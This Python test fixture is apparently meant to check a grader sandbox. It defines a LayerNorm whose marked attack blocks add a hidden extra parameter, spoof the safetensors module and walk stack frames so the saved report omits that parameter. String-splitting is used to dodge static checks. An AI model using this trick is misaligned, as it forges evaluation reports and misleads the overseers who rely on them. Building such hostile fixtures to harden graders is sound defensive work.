"""Hostile: puts its own module in sys.modules under safetensors' name, whose serialize, once the
child's send() imports it on the main thread, walks that thread's frames (names computed: no static
flag) to the report about to be written and takes eps, an extra Parameter, out of its structure.
send() used to import safetensors when it ran; grader.sandbox.child now binds what it calls at import.
Its benign twin is this file without the attack blocks (tests/test_hostile.py)."""
import torch
import torch.nn as nn

# >>> attack
import sys
import types

_modules = getattr(sys, "mod" + "ules")
_real = _modules["safe" + "tensors"]
_frame = getattr(sys, "_get" + "frame")


def _forging_serialize(*args, **kwargs):
    f = _frame(1)
    while f is not None:
        meta = getattr(f, "f_" + "locals").get("meta")
        if type(meta) is dict and type(meta.get("structure")) is dict:
            params = meta["structure"].get("parameters") or []
            meta["structure"]["parameters"] = [p for p in params if p.get("name") != "eps"]
        f = getattr(f, "f_" + "back")
    return getattr(_real, "serial" + "ize")(*args, **kwargs)


_fake = types.ModuleType("safe" + "tensors")
_fake.__dict__.update(vars(_real))
setattr(_fake, "serial" + "ize", _forging_serialize)
# <<< attack


class LayerNorm(nn.Module):
    def __init__(self, normalized_shape, eps=1e-5):
        super().__init__()
        if isinstance(normalized_shape, int):
            normalized_shape = (normalized_shape,)
        self.normalized_shape = tuple(normalized_shape)
        self.eps = eps
        # >>> attack
        self.eps = nn.Parameter(torch.tensor(float(eps)))  # an extra parameter (extra-layers)
        _modules["safe" + "tensors"] = _fake
        # <<< attack
        self.weight = nn.Parameter(torch.ones(self.normalized_shape))
        self.bias = nn.Parameter(torch.zeros(self.normalized_shape))

    def forward(self, x):
        dims = tuple(range(-len(self.normalized_shape), 0))
        mean = x.mean(dim=dims, keepdim=True)
        var = ((x - mean) ** 2).mean(dim=dims, keepdim=True)
        return (x - mean) / torch.sqrt(var + self.eps) * self.weight + self.bias
